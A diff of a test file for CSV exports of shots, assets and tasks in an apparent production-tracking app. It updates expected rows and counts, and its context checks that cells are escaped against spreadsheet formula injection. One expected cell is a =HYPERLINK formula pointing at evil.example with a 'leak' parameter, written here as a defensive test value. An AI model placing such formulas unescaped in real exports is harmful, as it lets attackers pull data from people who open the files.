@@ -40,7 +40,7 @@ describe('shots.csv', () => {
       [p.project.name, '', 'SQ01', 'SH010', `'${FORMULA_DESCRIPTION}`, '1.50', '48', '1001', '1048', '24', 'cam; "A"', 'true', 'done', alice.name, 'wip', [alice.name, bob.name].sort().join(',')],
       [p.project.name, '', 'SQ01', 'SH020', 'Hero looks\nat the sword', '0.00', '24', '1049', '1072', '24', '', 'false', 'wfa', bob.name, 'todo', ''],
       // A plain negative number is not a formula and stays as it is.
-      [p.project.name, '', 'SQ02', 'SH010', "'@lead: check the timing", '0.00', '', '-5', '-1', '', "'+cam_B", 'false', 'retake', '', '', ''],
+      [p.project.name, '', 'SQ02', 'SH010', "'@lead: check the timing", '0.00', '5', '-5', '-1', '', "'+cam_B", 'false', 'retake', '', 'todo', ''],
     ]);
     // RFC 4180 on the wire: the formula cell is quoted because of its quotes, the CRLF ends each line.
     expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/x?leak=1"";""click me"")"`);
@@ -77,8 +77,8 @@ describe('assets.csv and casting.csv', () => {
     expect(header).toEqual(['Project', 'Type', 'Name', 'Description', 'Time Spent', 'Complexity', modeling.name, 'Assignations', rigging.name, 'Assignations']);
     expect(rows).toEqual([
       [p.project.name, 'Character', 'Hero', 'The hero', '2.00', 'high', 'done', p.people.bob.name, 'wip', p.people.alice.name],
-      [p.project.name, 'Character', 'Villain', '', '0.00', '', 'todo', '', '', ''],
-      [p.project.name, 'Prop', 'Sword', '', '0.00', 'low', 'wfa', p.people.alice.name, '', ''],
+      [p.project.name, 'Character', 'Villain', '', '0.00', '', 'todo', '', 'todo', ''],
+      [p.project.name, 'Prop', 'Sword', '', '0.00', 'low', 'wfa', p.people.alice.name, 'todo', ''],
     ]);
   });
 
@@ -124,7 +124,7 @@ describe('studio exports', () => {
     expect(alice).toEqual([p.people.alice.name.split(' ')[0], 'Artist', p.people.alice.email, '', 'user', '', '', '', 'open-ended', 'artist', 'mid', '0', 'yes']);
     const tasks = rowsOf((await p.manager.api.get(`export/csv/projects/${p.project.id}/tasks.csv`)).body);
     expect(tasks[0]).toEqual(['Project', 'Task Type', 'Episode', 'Sequence', 'Entity Type', 'Entity', 'Assigner', 'Assignees', 'Duration', 'Estimation', 'Start date', 'Due date', 'WIP date', 'Validation date', 'Task Status']);
-    expect(tasks).toHaveLength(10);
+    expect(tasks).toHaveLength(13);
     expect(tasks).toContainEqual([p.project.name, p.taskTypes.animation.name, '', 'SQ01', 'Shot', 'SH010', '', [p.people.alice.name, p.people.bob.name].join(', '), '240', '0', '', '', '', '', 'In Progress']);
   });
 });
